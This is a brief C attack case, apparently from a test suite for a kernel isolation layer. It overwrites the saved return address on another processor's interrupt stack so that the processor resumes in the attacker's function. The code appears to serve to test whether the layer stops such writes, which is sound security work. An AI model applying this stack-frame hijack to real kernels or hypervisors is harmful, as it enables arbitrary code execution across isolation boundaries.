/* A3: writes where another processor's interrupts push their frames: the return address of whoever is interrupted there. */
#include "attack.h"

enum { IRQ_STACK = 4, RIP_WORD = LVD_PAGE_SIZE / 8 - 5 };

static void attack(void) {
    u32 cpu;
    asm("movl %%gs:%c1, %0" : "=r"(cpu) : "i"(LVD_PERCPU_CPU_NUMBER));
    volatile u64 *top = (volatile u64 *)lvd_ist_stacks[cpu ^ 1][IRQ_STACK];
    top[RIP_WORD] = (u64)attack;
    _printk("attack: the frame of processor %x now names my code\n", cpu ^ 1);
}
